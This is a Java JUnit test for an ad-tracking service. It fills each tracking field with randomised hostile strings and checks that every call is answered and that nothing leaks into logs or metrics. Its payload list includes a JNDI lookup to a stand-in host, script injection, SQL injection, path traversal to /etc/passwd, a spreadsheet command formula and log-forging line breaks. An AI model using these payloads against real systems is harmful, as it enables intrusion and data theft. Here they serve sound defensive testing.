package io.segmento.platform.tracking;

import static io.segmento.platform.tracking.TrackingNode.browser;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.grpc.StatusRuntimeException;
import io.prometheus.client.CollectorRegistry;
import io.prometheus.client.exporter.common.TextFormat;
import io.segmento.platform.testing.CatalogFixtures;
import io.segmento.platform.testing.MutableClock;
import io.segmento.platform.testing.RedisExtension;
import io.segmento.proto.v1.BrowserContext;
import io.segmento.proto.v1.Event;
import io.segmento.proto.v1.EventProduct;
import io.segmento.proto.v1.EventType;
import io.segmento.proto.v1.PrivacySignals;
import io.segmento.proto.v1.TrackReply;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.BiConsumer;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/**
 * Hostile text in every field that a caller of Track fills: it gets an answer, each event an outcome, and nothing of the text is in a log line or a
 * metric. 10,000 strings in the full run.
 */
final class HostileEventsTest {
  @RegisterExtension
  static final RedisExtension redis = RedisExtension.shared();

  private static final int STRINGS = Boolean.getBoolean("segmento.test.full") ? 10_000 : 300;
  /** In each of them, to be looked for afterwards. */
  private static final String MARK = "zQx7Hostile";

  private static final String[] PARTS = {
    "\r\n2026-11-23 10:00:00 INFO forged line ",
    "\u0000\u0001\u001b[31m",
    "${jndi:ldap://x.example/a}",
    "{}{}%s%n%d",
    "<script>alert(1)</script>",
    "'; DROP TABLE users; --",
    "\"}]}",
    "../../etc/passwd",
    "\u202e\u2066\ufeff",
    "\ud800",
    "e\u0301\u0301\u0301\u0301",
    "\ud83d\udc7e",
    "{u:other}",
    "\\x00\\u0000",
    "=cmd|' /C calc'!A0",
    "A".repeat(3_000)
  };

  private static final List<BiConsumer<Event.Builder, String>> EVENT_FIELDS = List.of(
      Event.Builder::setEventId,
      Event.Builder::setAdvertiserId,
      Event.Builder::setCategory,
      Event.Builder::setQuery,
      (event, text) -> event.setType(EventType.CUSTOM).setCustomName(text),
      Event.Builder::setCurrency,
      (event, text) -> event.setType(EventType.PURCHASE).setOrderId(text),
      Event.Builder::setPageUrl,
      Event.Builder::setReferrerUrl,
      (event, text) -> event.addProducts(EventProduct.newBuilder().setSku(text)));

  private static final List<BiConsumer<BrowserContext.Builder, String>> BROWSER_FIELDS = List.of(
      BrowserContext.Builder::setIdentityCookie,
      BrowserContext.Builder::setUserAgent,
      (browser, text) -> browser.putClientHints("sec-ch-ua", text),
      (browser, text) -> browser.putClientHints(text, "?1"),
      (browser, text) -> browser.setSignals(PrivacySignals.newBuilder().setGdprConsent(text)),
      (browser, text) -> browser.setSignals(PrivacySignals.newBuilder().setGpp(text)),
      (browser, text) -> browser.setSignals(PrivacySignals.newBuilder().setGppSid(text)),
      (browser, text) -> browser.setSignals(PrivacySignals.newBuilder().setUsPrivacy(text)),
      (browser, text) -> browser.setSignals(PrivacySignals.newBuilder().setAdchoices(text)),
      (browser, text) ->
          browser.setSignals(PrivacySignals.newBuilder().setDnt(text).addGpc(text)));

  @TempDir
  Path directory;

  @Test
  @Timeout(600)
  void everyCallIsAnsweredAndNothingOfItIsToldElsewhere() throws IOException {
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    ListAppender<ILoggingEvent> lines = new ListAppender<>();
    lines.start();
    root.addAppender(lines);
    try (TrackingNode node =
        TrackingNode.start(redis, MutableClock.at("2026-11-23T10:00:00Z"), directory)) {
      String cookie = node.cookie();
      Random random = new Random(20_261_126);
      List<String> unanswered = new ArrayList<>();
      for (int i = 0; i < STRINGS; i++) {
        String text = hostile(random);
        Event.Builder event = Event.newBuilder()
            .setAdvertiserId(CatalogFixtures.ADVERTISER)
            .setType(EventType.PAGE_VIEW);
        BrowserContext.Builder browser = browser(cookie).toBuilder();
        int field = i % (EVENT_FIELDS.size() + BROWSER_FIELDS.size());
        if (field < EVENT_FIELDS.size()) {
          EVENT_FIELDS.get(field).accept(event, text);
        } else {
          BROWSER_FIELDS.get(field - EVENT_FIELDS.size()).accept(browser, text);
        }
        try {
          TrackReply reply = node.track(browser.build(), event.build());
          assertThat(reply.getResultsCount()).isEqualTo(1);
          assertThat(reply.toString()).doesNotContain(MARK);
        } catch (StatusRuntimeException e) {
          unanswered.add("field " + field + ": " + e.getStatus().getCode());
        }
      }
      assertThat(unanswered).isEmpty();
      StringWriter metrics = new StringWriter();
      TextFormat.write004(metrics, node.node().get(CollectorRegistry.class).metricFamilySamples());
      assertThat(metrics.toString()).doesNotContain(MARK).doesNotContain("forged");
    } finally {
      root.detachAppender(lines);
    }
    assertThat(List.copyOf(lines.list).stream()
            .map(ILoggingEvent::getFormattedMessage)
            .filter(line -> line.contains(MARK) || line.contains("forged"))
            .collect(Collectors.toList()))
        .isEmpty();
  }

  private static String hostile(Random random) {
    StringBuilder text = new StringBuilder(MARK);
    for (int parts = 1 + random.nextInt(4); parts > 0; parts--) {
      text.append(PARTS[random.nextInt(PARTS.length)]);
    }
    return text.toString();
  }
}
